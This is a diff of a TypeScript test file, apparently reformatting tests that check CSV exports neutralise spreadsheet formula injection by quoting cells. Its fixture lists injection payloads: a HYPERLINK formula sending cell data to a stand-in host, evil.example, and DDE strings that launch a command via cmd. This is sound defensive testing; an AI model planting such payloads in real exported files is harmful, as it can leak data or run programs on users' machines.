@@ -14,9 +14,9 @@ const HEADER = 'PortNumber,AccNumber,LocNumber,LocName,StreetAddress,Latitude,Lo
 /** [LocName as written in the file, the value a spreadsheet must see]. */
 const NAMES: [string, string][] = [
   ['"=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"', `'=HYPERLINK("http://evil.example/?x="&A1,"Click")`],
-  ['+1+cmd|\' /C calc\'!A0', "'+1+cmd|' /C calc'!A0"],
+  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
   ['-2+3', "'-2+3"],
-  ['@SUM(1+1)*cmd|\' /C calc\'!A0', "'@SUM(1+1)*cmd|' /C calc'!A0"],
+  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
   ['"\t=1+1"', "'\t=1+1"],
   ['  =1+1', "'  =1+1"],
   ['"\r=1+1"', "'\r=1+1"],
@@ -54,26 +54,39 @@ describe('CSV outputs neutralise would-be formulas in text cells', () => {
     expect(rows.map((r) => r.LocName)).toEqual(NAMES.map(([, seen]) => seen));
     expect(new Set(rows.map((r) => r.Longitude))).toEqual(new Set(['-104.99']));
     expect(new Set(rows.map((r) => r.Deductible))).toEqual(new Set(['-1000']));
-    for (const r of rows) for (const [k, v] of Object.entries(r)) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
+    for (const r of rows)
+      for (const [k, v] of Object.entries(r)) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
   });
 
   it('Oasis location.csv: the same, with every OED number as written', async () => {
     const rows = table(path.join(await score('oasis'), 'location.csv'));
     expect(rows.map((r) => r.LocName)).toEqual(NAMES.map(([, seen]) => seen));
     expect(rows.map((r) => r.LocNumber)).toEqual(NAMES.map((_, i) => `L${i + 1}`));
-    expect(new Set(rows.map((r) => `${r.Latitude},${r.Longitude},${r.BuildingTIV},${r.FlexiLocDeductible}`))).toEqual(new Set(['39.74,-104.99,250000,-1000']));
-    for (const r of rows) for (const [k, v] of Object.entries(r)) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
+    expect(new Set(rows.map((r) => `${r.Latitude},${r.Longitude},${r.BuildingTIV},${r.FlexiLocDeductible}`))).toEqual(
+      new Set(['39.74,-104.99,250000,-1000']),
+    );
+    for (const r of rows)
+      for (const [k, v] of Object.entries(r)) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
   });
 
-  it('errors.csv: the bad row\'s id and latitude are quoted text, not formulas', async () => {
+  it("errors.csv: the bad row's id and latitude are quoted text, not formulas", async () => {
     const errors = table(path.join(await score('csv'), 'errors.csv'));
     expect(errors).toHaveLength(1);
-    expect(errors[0]).toMatchObject({ LocNumber: "'=2+5", latitude: "'=1+1", longitude: '-104.99', kind: 'invalid_coordinates' });
+    expect(errors[0]).toMatchObject({
+      LocNumber: "'=2+5",
+      latitude: "'=1+1",
+      longitude: '-104.99',
+      kind: 'invalid_coordinates',
+    });
     for (const [k, v] of Object.entries(errors[0])) expect(runs(v), `${k}=${JSON.stringify(v)}`).toBe(false);
   });
 
   it('scores.ndjson is JSON, not a spreadsheet: names exactly as read', async () => {
-    const lines = fs.readFileSync(path.join(await score('json'), 'scores.ndjson'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+    const lines = fs
+      .readFileSync(path.join(await score('json'), 'scores.ndjson'), 'utf8')
+      .trim()
+      .split('\n')
+      .map((l) => JSON.parse(l));
     const read = parse([HEADER, ...ROWS].join('\n'), { columns: true, relax_quotes: true }) as Record<string, string>[];
     expect(lines.map((l) => l.LocName)).toEqual(read.map((r) => r.LocName));
   });
